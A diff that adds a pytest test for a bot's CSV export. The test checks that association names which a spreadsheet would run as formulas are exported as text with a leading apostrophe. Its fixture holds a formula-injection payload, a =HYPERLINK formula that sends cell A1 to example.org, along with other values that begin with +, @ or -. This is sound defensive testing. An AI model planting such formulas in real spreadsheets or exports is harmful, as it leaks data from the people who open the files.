@@ -1,0 +1,57 @@
+"""A board names its association so that a spreadsheet would run the name as a formula
+(``=HYPERLINK(...)`` fetches a web address when the file is opened). The coordinator's
+KMTM export shows every such name as text."""
+
+from __future__ import annotations
+
+import pytest
+
+from vcpbot.emulator import Emulator
+from vcpbot.harness import BotHarness, NetworkWorld, seed_network_world
+
+from kmtm_steps import add_vcp, close_period, create_period, csv_rows, kmtm, log_contact
+from network_steps import join_network, set_up_hub
+
+# Boards that name their associations the way a spreadsheet would run as a formula.
+FORMULA_ASSOCIATIONS = (
+    ("link", '=HYPERLINK("https://example.org/?d="&A1,"Klik")', "nl"),
+    ("plus", "+31 6 12345678", "nl"),
+    ("at", "@SUM(A1:A9)", "nl"),
+    ("minus", "-1+2", "nl"),
+)
+
+
+@pytest.fixture
+def world(emulator: Emulator) -> NetworkWorld:
+    return seed_network_world(emulator, associations=FORMULA_ASSOCIATIONS)
+
+
+async def test_a_board_cannot_put_a_formula_in_the_coordinators_export(
+    emulator: Emulator, world: NetworkWorld, harness: BotHarness
+) -> None:
+    await set_up_hub(emulator, world)
+    for key, _, _ in FORMULA_ASSOCIATIONS:
+        await join_network(emulator, world, key)
+    await create_period(emulator, world)
+    for key, _, _ in FORMULA_ASSOCIATIONS:
+        vcp = await add_vcp(emulator, world, key, f"vcp-{key}")
+        guild = world.association(key).guild
+        for _ in range(5):
+            await log_contact(emulator, vcp, guild, "advice", "unknown", "listening_ear")
+    await close_period(emulator, world)
+    export = await kmtm(
+        emulator,
+        world.coordinator,
+        world.hub,
+        "export",
+        {"period": "KMTM 2026", "by": "association"},
+    )
+    rows = csv_rows(export)
+    # Each name arrives as text: a leading apostrophe, which a spreadsheet does not show.
+    assert {row["label"] for row in rows} == {
+        *("'" + name for _, name, _ in FORMULA_ASSOCIATIONS),
+        "Totaal",
+    }
+    assert {row["count"] for row in rows} == {"5", "20"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
